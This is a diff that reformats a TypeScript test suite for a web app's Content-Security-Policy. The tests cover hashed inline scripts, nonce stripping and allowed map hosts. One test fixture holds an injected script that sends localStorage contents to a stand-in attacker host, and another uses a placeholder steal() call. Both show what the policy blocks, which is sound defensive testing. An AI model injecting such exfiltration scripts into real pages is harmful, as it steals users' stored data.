@@ -10,7 +10,10 @@ import { createApp } from "./app";
  */
 /** A page whose `{nonce}` placeholders are the render's script nonce, as the app's own scripts get it. */
 const page = (html: string, type = "text/html; charset=utf-8") =>
-  createApp(async (_request, _env, _ctx, nonce) => new Response(html.replaceAll("{nonce}", nonce), { headers: { "Content-Type": type } }));
+  createApp(
+    async (_request, _env, _ctx, nonce) =>
+      new Response(html.replaceAll("{nonce}", nonce), { headers: { "Content-Type": type } }),
+  );
 
 async function policyOf(html: string, type?: string) {
   const res = await page(html, type).fetch(new Request("http://localhost/map"), env, createExecutionContext());
@@ -23,7 +26,12 @@ async function sha256Base64(text: string) {
 }
 
 const directive = (policy: string, name: string) =>
-  policy.split(";").map((d) => d.trim()).find((d) => d.startsWith(`${name} `))?.split(" ").slice(1) ?? [];
+  policy
+    .split(";")
+    .map((d) => d.trim())
+    .find((d) => d.startsWith(`${name} `))
+    ?.split(" ")
+    .slice(1) ?? [];
 
 describe("the pages' Content-Security-Policy", () => {
   it("allows exactly the app's inline scripts by hash, never 'unsafe-inline', and strips their nonce", async () => {
@@ -32,7 +40,11 @@ describe("the pages' Content-Security-Policy", () => {
     const html = `<!DOCTYPE html><html><head><link rel="modulepreload" href="/assets/a.js" nonce="{nonce}"/><script src="/assets/entry.js" type="module"></script></head><body><script nonce="{nonce}">${context}</script><script nonce="{nonce}" type="module" async="">${loader}</script></body></html>`;
     const { policy, body } = await policyOf(html);
     const scripts = directive(policy, "script-src");
-    expect(scripts).toEqual(["'self'", `'sha256-${await sha256Base64(context)}'`, `'sha256-${await sha256Base64(loader)}'`]);
+    expect(scripts).toEqual([
+      "'self'",
+      `'sha256-${await sha256Base64(context)}'`,
+      `'sha256-${await sha256Base64(loader)}'`,
+    ]);
     expect(policy).not.toContain("unsafe-inline'; script");
     expect(scripts).not.toContain("'unsafe-inline'");
     expect(body).not.toContain("nonce");
@@ -41,19 +53,28 @@ describe("the pages' Content-Security-Policy", () => {
 
   it("does not allow a script injected into the page: without the render's nonce it is not hashed", async () => {
     const injected = "fetch('https://evil.example/?' + localStorage.las)";
-    const { policy, body } = await policyOf(`<html><body><p><script>${injected}</script></p><script nonce="{nonce}">ok()</script></body></html>`);
+    const { policy, body } = await policyOf(
+      `<html><body><p><script>${injected}</script></p><script nonce="{nonce}">ok()</script></body></html>`,
+    );
     expect(directive(policy, "script-src")).toEqual(["'self'", `'sha256-${await sha256Base64("ok()")}'`]);
     expect(body).toContain(injected);
   });
 
   it("does not allow a script that guesses a nonce", async () => {
-    const { policy } = await policyOf(`<html><body><script nonce="0123456789abcdef0123456789abcdef">steal()</script></body></html>`);
+    const { policy } = await policyOf(
+      `<html><body><script nonce="0123456789abcdef0123456789abcdef">steal()</script></body></html>`,
+    );
     expect(directive(policy, "script-src")).toEqual(["'self'"]);
   });
 
   it("lets the page connect to its own origin and the map's hosts (Mapbox, OpenFreeMap) only", async () => {
     const { policy } = await policyOf("<html></html>");
-    const mapHosts = ["https://api.mapbox.com", "https://*.tiles.mapbox.com", "https://events.mapbox.com", "https://tiles.openfreemap.org"];
+    const mapHosts = [
+      "https://api.mapbox.com",
+      "https://*.tiles.mapbox.com",
+      "https://events.mapbox.com",
+      "https://tiles.openfreemap.org",
+    ];
     expect(directive(policy, "connect-src")).toEqual(["'self'", ...mapHosts]);
     expect(directive(policy, "img-src")).toEqual(["'self'", "data:", "blob:", ...mapHosts]);
     expect(policy).not.toMatch(/\bwss?:/);
